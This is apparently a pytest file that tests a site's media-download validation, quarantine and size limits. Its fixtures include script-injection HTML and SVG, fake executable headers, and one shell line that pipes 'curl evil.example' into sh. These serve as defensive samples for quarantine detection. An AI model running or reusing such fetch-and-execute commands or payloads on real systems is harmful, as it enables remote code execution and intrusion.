"""What arrives is media, or it is refused or set aside, and says why."""

import os

import pytest

from doubles.faults import ALWAYS
from doubles.standard_webhook import event
from site_under_test import photo

HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
PE = b"MZ" + bytes(2000)
ELF = b"\x7fELF\x02\x01\x01" + bytes(2000)
PDF = b"%PDF-1.7\n" + bytes(2000)

# What the host does all the time: (modes of the double), the reason.
BAD_ANSWERS = [
    ([("download", "html")], "unexpected_html"),
    ([("download", "html_as_media")], "unexpected_html"),
    ([("download", "html"), ("resolve", "no_size"), ("resolve", "no_digest")], "unexpected_html"),
    ([("download", "json")], "unexpected_answer"),
    ([("download", "xml")], "unexpected_answer"),
    ([("download", "gzip")], "unexpected_encoding"),
    ([("download", "deflate")], "unexpected_encoding"),
    ([("download", "br")], "unexpected_encoding"),
    ([("download", "truncated")], "truncated"),
    ([("download", "short")], "size_mismatch"),
    ([("download", "empty")], "empty"),
    ([("download", "broken_chunk")], "network"),
    ([("download", "wrong_content")], "hash_mismatch"),
    ([("download", "endless")], "size_mismatch"),
    ([("download", "lying_length")], "size_mismatch"),
    ([("resolve", "wrong_size")], "size_mismatch"),
    ([("resolve", "huge_size")], "too_large"),
]

# What somebody really sent: (kind, declared type, bytes), the reason.
SUSPICIOUS = [
    ("image", "image/png", HTML, "active_content"),
    ("image", "image/svg+xml", SVG, "active_content"),
    ("document", "application/pdf", HTML, "active_content"),
    ("document", "text/plain", HTML, "active_content"),
    ("document", "image/jpeg", SVG, "active_content"),
    ("image", "image/jpeg", PE, "executable"),
    ("audio", "audio/ogg", ELF, "executable"),
    ("document", "application/pdf", PE, "executable"),
    ("document", "application/octet-stream", ELF, "executable"),
    ("document", "application/pdf", b"#!/bin/sh\nexec curl evil.example | sh\n# ", "active_content"),
    ("image", "image/jpeg", PDF, "type_mismatch"),
    ("video", "video/mp4", b"no signature at all", "type_mismatch"),
]


def left_nothing(site, item, files):
    assert site.get(item["file_url"]).status_code == 404
    assert item["file_size"] is None and item["sha256"] is None
    assert site.stored_files() == files
    assert site.count("media_files", f"id = '{item['id']}' AND blob_id IS NOT NULL") == 0
    assert site.count("jobs", f"media_id = '{item['id']}'") == 0


@pytest.mark.parametrize("faults, reason", BAD_ANSWERS)
def test_a_bad_answer_is_refused_with_its_reason(site, faults, reason):
    files, blobs = site.stored_files(), site.count("blobs")
    message_id = site.send_photo(faults=[(step, mode, ALWAYS) for step, mode in faults])
    item = site.wait_for(message_id, "failed", seconds=60)
    assert item["last_error"].startswith(reason + ":"), item["last_error"]
    left_nothing(site, item, files)
    assert site.count("blobs") == blobs
    assert not site.quarantined_file(item["id"]).exists()


@pytest.mark.parametrize("kind, mime_type, content, reason", SUSPICIOUS)
def test_suspicious_bytes_go_into_quarantine(site, kind, mime_type, content, reason):
    content += os.urandom(8).hex().encode()
    files, blobs = site.stored_files(), site.count("blobs")
    message = site.offer(content, kind, mime_type)
    site.send(message)
    item = site.wait_for(message["id"], "quarantined")
    assert item["last_error"].startswith(reason + ":"), item["last_error"]
    left_nothing(site, item, files)
    assert site.count("blobs") == blobs
    assert site.quarantined_file(item["id"]).read_bytes() == content
    assert site.get(f"/api/v1/media/{item['id']}/status").json()["download_status"] == "quarantined"


def test_the_quarantine_is_for_the_daemon_alone(site):
    message = site.offer(PE, "document", "application/pdf")
    site.send(message)
    file = site.quarantined_file(site.wait_for(message["id"], "quarantined")["id"])
    assert file.parent.stat().st_mode & 0o777 == 0o700
    assert site.get(f"/media/.quarantine/{file.name}").status_code in (401, 403, 404)


@pytest.mark.parametrize("content, mime_type, stored_as", [
    (HTML, "text/html", "text/html"),
    (SVG, "image/svg+xml", "image/svg+xml"),
    (b'{"a": 1}', "application/json", "application/json"),
    (b"PK\x03\x04" + bytes(100), "application/pdf", "application/zip"),
])
def test_an_honest_document_is_only_downloaded(site, content, mime_type, stored_as):
    message = site.offer(content, "document", mime_type)
    site.send(message)
    item = site.wait_for(message["id"])
    answer = site.get(item["file_url"])
    assert item["mime_type"] == stored_as
    assert answer.content == content
    assert answer.headers["Content-Disposition"].startswith("attachment")


def test_nobody_vouches_for_a_page_without_a_hash(site, file_host):
    """What a plain host answers may be its own login page: not worth keeping."""
    payload = event([{"url": file_host.add("page", HTML, "text/html"), "content_type": "image/jpeg"}])
    assert site.add_generic().post(payload).status_code == 200
    item = site.wait_for(payload["data"]["id"], "failed")
    assert item["last_error"].startswith("unexpected_html:")
    assert not site.quarantined_file(item["id"]).exists()


def test_a_chunked_answer_without_a_size_is_taken_when_nothing_was_announced(site, file_host):
    content = photo()
    message_id = site.send_photo(content, faults=[
        ("resolve", "no_size", ALWAYS), ("resolve", "no_digest", ALWAYS), ("download", "chunked", 1)])
    assert site.get(site.wait_for(message_id)["file_url"]).content == content


MIB = 1 << 20
WEBP = b"RIFF\x24\0\0\0WEBPVP8 "
MP4 = b"\0\0\0\x18ftypisom\0\0\2\0"
OGG = b"OggS\0\2" + bytes(22) + b"\1\x13OpusHead"

# What WhatsApp documents for each kind: (kind, type, first bytes, limit).
WHATSAPP_LIMITS = [
    ("image", "image/jpeg", photo(100)[:100], 5 * MIB),
    ("image", "image/webp", WEBP, 500 * 1024),
    ("audio", "audio/ogg; codecs=opus", OGG, 16 * MIB),
    ("video", "video/mp4", MP4, 16 * MIB),
]


@pytest.mark.parametrize("kind, mime_type, start, limit", WHATSAPP_LIMITS)
def test_media_up_to_the_limit_of_its_provider_and_kind_is_taken(site, kind, mime_type, start, limit):
    content = start + os.urandom(16) + bytes(limit - len(start) - 16)
    for size, status in ((limit, "completed"), (limit + 1, "failed")):
        message = site.offer(content.ljust(size, b"x"), kind, mime_type)
        site.send(message)
        item = site.wait_for(message["id"], status)
    assert item["last_error"].startswith("too_large:")


@pytest.mark.parametrize("faults", [
    [("resolve", "no_size"), ("resolve", "no_digest")],  # told by Content-Length
    [("resolve", "no_size"), ("resolve", "no_digest"), ("download", "chunked")],  # or as it comes
], ids=["announced", "streamed"])
def test_the_limit_holds_whoever_names_the_size(site, graph, faults):
    files = site.stored_files()
    message = site.offer(photo(5 * MIB + 1), faults=[(*fault, ALWAYS) for fault in faults])
    site.send(message)
    item = site.wait_for(message["id"], "failed")
    assert item["last_error"].startswith("too_large:")
    left_nothing(site, item, files)


def test_others_have_50_mb(site, file_host):
    url = file_host.add("huge", b"%PDF-1.7\n" + bytes(50 * MIB), "application/pdf")
    payload = event([{"url": url, "content_type": "application/pdf"}])
    assert site.add_generic().post(payload).status_code == 200
    assert site.wait_for(payload["data"]["id"], "failed")["last_error"].startswith("too_large:")


def test_the_operator_chooses_limits_and_types(site, stack):
    psql = stack.postgres.psql
    psql("INSERT INTO media.size_limits VALUES ('whatsapp', 'images', 'image/jpeg', 6000)")
    psql("UPDATE media.buckets SET allowed_mime_types = array_remove(allowed_mime_types, 'image/gif') "
         "WHERE name = 'images'")
    try:
        large = site.send_photo(photo(6001))
        gif = site.offer(b"GIF89a" + os.urandom(100), "image", "image/gif")
        site.send(gif)
        assert site.wait_for(large, "failed")["last_error"].startswith("too_large:")
        assert site.wait_for(gif["id"], "failed")["last_error"].startswith("type_not_allowed:")
    finally:
        psql("DELETE FROM media.size_limits WHERE mime_type = 'image/jpeg'")
        psql("UPDATE media.buckets SET allowed_mime_types = allowed_mime_types || '{image/gif}' "
             "WHERE name = 'images'")
